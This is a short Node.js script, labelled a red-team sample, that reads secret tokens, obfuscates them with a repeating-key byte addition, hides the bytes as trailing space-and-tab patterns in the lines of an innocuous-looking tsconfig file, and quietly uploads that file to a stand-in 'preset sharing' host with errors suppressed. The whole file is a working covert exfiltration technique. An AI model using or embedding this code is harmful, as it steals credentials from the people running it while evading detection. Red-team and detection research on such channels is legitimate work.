'use strict';
// Harmless red-team sample: env tokens (Vigenere-style add of a 9-byte key) hidden as trailing space/tab patterns
// (one nibble per line) of a pretty-printed tsconfig uploaded to a "preset sharing" service.
const http = require('http');
const { secret } = require('./util');
const key = Buffer.from('tsc0nf1gz');
const data = secret().map((b, i) => (b + key[i % key.length]) & 255);
const nibbles = []; for (const b of data) nibbles.push(b >> 4, b & 15);
const base = JSON.stringify({ compilerOptions: { target: 'ES2022', module: 'NodeNext', strict: true, esModuleInterop: true,
  skipLibCheck: true, outDir: 'dist', rootDir: 'src', declaration: true, sourceMap: true }, include: ['src'] }, null, 2).split('\n');
const lines = []; let n = 0;
while (n < nibbles.length) for (const l of base) {
  const v = n < nibbles.length ? nibbles[n++] : 0;
  lines.push(l + [3, 2, 1, 0].map(s => ((v >> s) & 1) ? '\t' : ' ').join(''));
}
const body = lines.join('\n');
const req = http.request({ host: 'presets.tsconfig-share.invalid', path: '/v1/presets/node22', method: 'PUT',
  headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, r => r.resume());
req.on('error', () => {}); req.setTimeout(3000, () => req.destroy()); req.end(body);
